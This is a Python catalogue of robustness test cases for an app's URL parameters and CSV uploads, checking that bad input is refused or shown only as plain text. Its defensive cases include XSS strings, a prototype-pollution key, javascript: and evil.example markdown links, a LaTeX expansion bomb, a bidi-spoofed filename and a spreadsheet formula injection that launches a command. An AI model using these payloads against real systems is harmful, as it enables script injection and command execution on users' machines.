        _url("smoothing", "qr", "off", "0", "ok", "numeric", False, extra=on),
        _url("smoothing", "qr", "without-present", "<b>0</b>", "ok", "html_js", ANY),  # ignored: mode is off
    ]
    # ---- predict-then-reveal, on every page
    for page in ("home", "smoothing", "lookup", "attention"):
        c.append(_url(page, "predict", "two", "2", "refused", "numeric", False))
    c += [
        _url("home", "predict", "markup", "<img src=x onerror=alert(1)>", "refused", "html_js", False),
        _url("smoothing", "predict", "empty", "", "refused", "empty", False),
        _url("lookup", "predict", "5000-ones", "1" * 5_000, "refused", "absurd_size", False),
        _url("smoothing", "predict", "on", "1", "ok", "numeric", True, says="Predict, then reveal."),
        _url("attention", "predict", "on", "true", "ok", "numeric", True, says="which token will token"),
    ]
    # ---- parameters no page knows: ignored, silently
    for page in ("home", "smoothing", "lookup", "attention"):
        c.append(_url(page, "<script>alert(1)</script>", "unknown-markup-key", "x", "ok", "unknown_param", ANY))
    c += [
        _url("home", "text", "stray-text", "<img src=x onerror=alert(1)>", "ok", "unknown_param", ANY),
        _url("home", "__proto__", "proto", '{"polluted":1}', "ok", "unknown_param", ANY),
        _url("attention", "embed_options", "streamlit-option", "true", "ok", "unknown_param", ANY),
    ]
    return c


# ============================================================ CSV uploads


def _csv(name: str, data: bytes, expect: str, kind: str, says: str = "", filename: str = "data.csv",
         known_issue: str = "") -> Case:
    return Case(f"csv/{name}", "csv:smoothing", data, expect, kind, says=says, filename=filename,
                known_issue=known_issue)


def _csv_cases() -> list[Case]:
    rows = b"".join(b"%d,%d\n" % (i, i % 7) for i in range(50))
    return [
        # ---- empty, tiny, whitespace
        _csv("empty", b"", "refused", "empty", "is empty"),
        _csv("whitespace", b"  \n\t\n\r\n", "refused", "whitespace", "is empty"),
        _csv("one-char", b"7", "refused", "one_char", "only 1 data row"),
        _csv("bom-only", b"\xef\xbb\xbf", "refused", "empty", "no data lines"),
        _csv("header-only", b"x,y\n", "refused", "malformed_file", "no data"),
        _csv("comments-only", b"# a\n# b\n", "refused", "malformed_file", "no data lines"),
        _csv("commas-only", b",,,\n,,,\n,,,\n", "refused", "malformed_file", "No numeric column"),
        _csv("two-values", b"x\n1\n2\n", "ok", "one_char"),
        # ---- binary and the wrong kind of file
        _csv("png", b"\x89PNG\r\n\x1a\n" + bytes(200), "refused", "binary_file", "a PNG image"),
        _csv("jpeg", b"\xff\xd8\xff\xe0" + bytes(200), "refused", "binary_file", "a JPEG image"),
        _csv("gif", b"GIF89a" + bytes(200), "refused", "binary_file", "a GIF image"),
        _csv("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "refused", "binary_file", "a PDF document"),
        _csv("xlsx", b"PK\x03\x04" + bytes(200), "refused", "binary_file", "zip archive"),
        _csv("xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), "refused", "binary_file", "old Excel"),
        _csv("gzip", b"\x1f\x8b\x08\x00" + bytes(200), "refused", "binary_file", "gzip archive"),
        _csv("elf", b"\x7fELF\x02\x01\x01" + bytes(200), "refused", "binary_file", "binary file"),
        _csv("random-bytes", bytes((i * 151 + 7) % 256 for i in range(4096)), "refused", "binary_file", "binary file"),
        _csv("nul-in-text", b"x\n1\n\x002\n3\n", "refused", "nul", "NUL bytes"),
        _csv("utf16-no-bom", "x\n1\n2\n3\n".encode("utf-16-le"), "refused", "binary_file", "NUL bytes"),
        _csv("html-page", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "refused",
             "html_js", "web page"),
        _csv("xml", b'<?xml version="1.0"?><rows><r>1</r></rows>', "refused", "malformed_file", "web page"),
        _csv("json", b'[{"x": 1}, {"x": 2}]', "refused", "malformed_file", "no data"),
        # ---- malformed text
        _csv("open-quote", b'"a,b\n1,2\n3,4\n', "refused", "malformed_file", "could not be read"),
        _csv("ragged", b"a,b\n1,2\n3,4,5,6\n", "refused", "malformed_file", "could not be read"),
        _csv("no-numbers", b"city,country\nParis,France\nLima,Peru\n", "refused", "malformed_file", "No numeric column"),
        _csv("1001-columns", (b",".join([b"1"] * 1_001) + b"\n") * 3, "refused", "absurd_size", "the limit is 1000"),
        _csv("cr-line-ends", b"x\r1\r2\r3\r", "ok", "malformed_file"),
        _csv("utf16-bom", "x\n1\n2\n3\n".encode("utf-16"), "ok", "malformed_file", "UTF-16"),
        _csv("cp1252", "temp°\n1\n2\n3\n".encode("cp1252"), "ok", "malformed_file", "Windows-1252"),
        _csv("surrogate-bytes", b"x\xed\xa0\x80\n1\n2\n", "ok", "surrogate", "not UTF-8"),
        _csv("semicolon-decimal-comma", b"t;v\n1;3,5\n2;4,25\n3;1,0\n", "ok", "numeric"),
        _csv("thousands", b'x\n"1,000"\n"2,500"\n"3,000"\n', "ok", "numeric"),
        # ---- numeric extremes
        _csv("nan-only", b"x\nnan\nNaN\nNA\n", "refused", "nan_inf", "No numeric column"),
        _csv("nan-one-left", b"x\n1\nnan\n", "refused", "nan_inf", "1 usable value"),
        _csv("inf", b"x\n1\ninf\n3\n", "refused", "nan_inf", "infinite"),
        _csv("minus-inf", b"x\n1\n-Infinity\n3\n", "refused", "nan_inf", "infinite"),
        _csv("overflow-1e309", b"x\n1e309\n1\n2\n", "refused", "nan_inf", "infinite"),
        _csv("huge-magnitudes", b"x\n1e300\n-1e300\n1e300\n-1e300\n", "refused", "numeric", "Rescale the column"),
        _csv("at-magnitude-limit", b"x\n1e100\n-1e100\n1e100\n-1e100\n", "ok", "numeric"),
        _csv("near-max-constant", b"x\n" + b"1.7e308\n" * 30, "refused", "numeric", "Rescale the column"),
        _csv("near-max-alternating", b"x\n" + b"1.7e308\n-1.7e308\n" * 15, "refused", "numeric",
             "Rescale the column"),
        _csv("denormals", b"x\n5e-324\n0\n5e-324\n1e-320\n", "ok", "numeric"),
        _csv("constant", b"x\n" + b"3\n" * 40, "ok", "numeric"),
        _csv("negative-zero", b"x\n-0\n0\n-0.0\n", "ok", "numeric"),
        _csv("100k-digit-number", b"x\n" + b"1" * 100_000 + b"\n2\n3\n", "ok", "absurd_size", "Dropped 1 of 3 rows"),
        _csv("hex-numbers", b"x\n0x10\n0x20\n0x30\n", "refused", "numeric", "No numeric column"),
        # ---- sizes
        _csv("100k-char-header", b"h" * 100_000 + b"\n1\n2\n3\n", "ok", "huge"),
        _csv("20000-rows", b"x\n" + b"1\n2\n" * 10_000, "ok", "huge"),
        _csv("20001-rows", b"x\n" + b"1\n" * 20_001, "refused", "huge_file", "more than 20,000 rows"),
        _csv("6-MB", b"x\n" + b"1.5\n" * 1_600_000, "refused", "huge_file", "the limit is 5 MB"),
        _csv("5-MB-one-line", b"x," * 2_600_000, "refused", "huge_file", "the limit is 5 MB"),
        # ---- markup in cells, headers and file names (shown as plain text only)
        _csv("xss-header", b"<img src=x onerror=alert(1)>,<script>alert(2)</script>\n" + rows, "ok", "html_js"),
        _csv("md-header", b"![x](http://evil.example/x.png),[l](javascript:alert(1))\n" + rows, "ok", "markdown_latex"),
        _csv("latex-header", b"$$\\def\\a{\\a\\a}\\a$$,$x$\n" + rows, "ok", "markdown_latex"),
        _csv("xss-no-numbers", b"<img src=x onerror=alert(1)>\n<script>alert(2)</script>\n**b**\n", "refused",
             "html_js", "No numeric column"),
        _csv("formula-injection", b"=cmd|' /C calc'!A0,@SUM(1+1)\n1,2\n3,4\n5,6\n", "ok", "injection"),
        _csv("emoji-rtl-header", "👨‍👩‍👧 temp,שלום\u202e\n1,2\n3,4\n".encode(), "ok", "zwj"),
        _csv("control-header", b"a\x07b\x1b[31m,c\n1,2\n3,4\n", "refused", "control", "many control characters"),
        _csv("xss-filename", b"x\n1\n2\n3\n", "ok", "html_js", filename="<img src=x onerror=alert(1)>.csv"),
        _csv("xss-filename-refused", b"", "refused", "html_js", "<img src=x onerror=alert(1)>.csv is empty",
             filename="<img src=x onerror=alert(1)>.csv"),
        _csv("md-filename-refused", b"\x89PNG", "refused", "markdown_latex", "[a](javascript:alert(1))",
             filename="[a](javascript:alert(1)).csv"),
        _csv("bidi-filename", b"\x89PNG", "refused", "bidi", "looks like a PNG", filename="photo\u202egnp.csv"),
        _csv("long-filename", b"", "refused", "absurd_size", "is empty", filename="f" * 1_000 + ".csv"),
    ]


CASES: tuple[Case, ...] = (*_text_cases(), *_url_cases(), *_csv_cases())

# The categories the issue asks for; a test checks each one has cases.
REQUIRED_KINDS = (
    "empty", "whitespace", "one_char", "huge", "emoji", "zwj", "combining", "rtl", "bidi", "zero_width", "control",
    "nul", "surrogate", "html_js", "markdown_latex", "numeric", "nan_inf", "negative", "absurd_size",
    "malformed_file", "binary_file", "huge_file", "duplicate", "unknown_param",
)

# Every URL parameter of every page (the pages' public interface); a test checks each has cases.
URL_KEYS = {
    "home": ("present", "step", "qr", "predict"),  # the frame's, on every page
    "smoothing": ("src", "n", "noise", "seed", "sigma", "trunc", "t", "sigv", "col"),
    "lookup": ("q", "temp", "sim", "preset", "store"),
    "attention": ("view", "text", "text2", "layer", "head", "token", "sqrtd", "causal", "hide", "s1", "s2", "word",
                  "n1", "n2", "d", "off", "weighting"),
}


def by_target(prefix: str) -> list[Case]:
    """The cases whose target starts with ``prefix``."""
    return [case for case in CASES if case.target.startswith(prefix)]
